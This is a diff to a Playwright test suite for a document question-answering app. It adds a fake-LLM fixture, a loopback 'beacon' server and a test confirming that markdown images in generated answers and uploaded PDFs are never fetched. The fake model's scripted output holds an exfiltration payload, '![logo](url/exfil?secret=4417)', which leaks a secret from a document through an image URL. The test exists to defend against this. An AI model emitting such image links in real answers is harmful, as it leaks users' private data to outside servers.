@@ -33,9 +33,19 @@ def _free_port() -> int:
 
 
 @pytest.fixture
-def server(settings, tmp_path):
+def server(settings):
+    yield from _serve(settings, {})
+
+
+@pytest.fixture
+def llm_server(settings, fake_llm):
+    """The app with generated answers from the loopback LLM."""
+    yield from _serve(settings, {"OPENAI_BASE_URL": fake_llm.base_url})
+
+
+def _serve(settings, extra_env: dict):
     port = _free_port()
-    env = {**os.environ, "FOLIO_DATA_DIR": str(settings.folio_data_dir)}
+    env = {**os.environ, "FOLIO_DATA_DIR": str(settings.folio_data_dir), **extra_env}
     command = [
         sys.executable,
         "-m",
@@ -117,3 +127,47 @@ def test_a_scanned_pdf_uploaded_in_the_browser_is_answered_and_cited_to_its_page
         expect(page.get_by_text("harbour-scan.pdf, p. 2").first).to_be_visible()
         expect(page.get_by_text("(OCR)").first).to_be_visible()
         browser.close()
+
+
+@pytest.fixture
+def beacon():
+    """A loopback HTTP server that counts the requests it receives (it must receive none)."""
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 (http.server's name)
+            hits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{httpd.server_address[1]}", hits
+    httpd.shutdown()
+
+
+def test_an_image_in_a_generated_answer_is_never_fetched(llm_server, fake_llm, beacon, tmp_path):
+    from playwright.sync_api import expect, sync_playwright
+
+    from tests.conftest import make_pdf
+
+    url, hits = beacon
+    fake_llm.then("stream", tokens=["The gate code is 4417 [1]. ", f"![logo]({url}/exfil?secret=4417)"])
+    pdf = make_pdf(tmp_path / "harbour.pdf", [f"The gate code is 4417 for guests. ![l]({url}/doc.png) Welcome."])
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        page = browser.new_page()
+        _upload_and_ask(page, llm_server, pdf, "harbour.pdf: ingested 1 pages", "What is the gate code?")
+        expect(page.get_by_text("The gate code is 4417").first).to_be_visible(timeout=60_000)
+        page.get_by_text("harbour.pdf, p. 1").first.click()  # open the source panel: the document's text too
+        page.wait_for_timeout(2000)
+        shown_as_text = page.get_by_text("(image: logo)").count()
+        browser.close()
+    assert hits == []
+    assert shown_as_text >= 1
